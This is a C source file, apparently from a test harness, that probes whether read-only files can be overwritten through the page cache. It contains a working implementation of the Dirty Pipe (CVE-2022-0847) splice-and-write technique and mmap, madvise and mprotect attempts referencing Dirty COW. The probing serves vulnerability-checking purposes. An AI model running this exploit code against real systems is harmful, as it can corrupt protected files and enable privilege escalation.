// Writing what may only be read, through the page cache.
#include "hostile.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

static void tell(const char *path, const char *step, long answer) {
    printf("%s %s\t%s\n", step, path, answer < 0 ? strerrorname_np(errno) : "done");
}

/// CVE-2022-0847: a pipe whose slots once held mergeable pages takes a page of the file, and a write into the pipe then
/// lands in the page.
static void splice_and_write(const char *path) {
    static char block[4096];
    int ends[2], file = open(path, O_RDONLY | O_CLOEXEC);
    if (file < 0 || pipe(ends) != 0) {
        tell(path, "open", -1);
        return;
    }
    int slots = fcntl(ends[1], F_GETPIPE_SZ) / (int)sizeof block;
    for (int i = 0; i < slots && write(ends[1], block, sizeof block) > 0; i++) {
    }
    for (int i = 0; i < slots && read(ends[0], block, sizeof block) > 0; i++) {
    }
    off64_t offset = 0;
    tell(path, "splice", splice(file, &offset, ends[1], NULL, 1, 0));
    tell(path, "write behind", write(ends[1], "DIRTY", 5));
}

/// Private pages become nobody else's, shared ones can't be made writable.
static void map_and_write(const char *path) {
    int file = open(path, O_RDONLY | O_CLOEXEC);
    char *own = mmap(NULL, 1, PROT_READ | PROT_WRITE, MAP_PRIVATE, file, 0);
    if (own != MAP_FAILED) {
        memcpy(own, "DIRTY", 5);
        madvise(own, 1, MADV_DONTNEED); // CVE-2016-5195 raced this
    }
    char *shared = mmap(NULL, 1, PROT_READ, MAP_SHARED, file, 0);
    tell(path, "mprotect", shared == MAP_FAILED ? -1 : mprotect(shared, 1, PROT_READ | PROT_WRITE));
    tell(path, "map writable", mmap(NULL, 1, PROT_WRITE, MAP_SHARED, file, 0) == MAP_FAILED ? -1 : 0);
}

/// `dirty PATH…`
int dirty(int count, char **paths) {
    for (int i = 0; i < count; i++) {
        splice_and_write(paths[i]);
        map_and_write(paths[i]);
    }
    return 0;
}
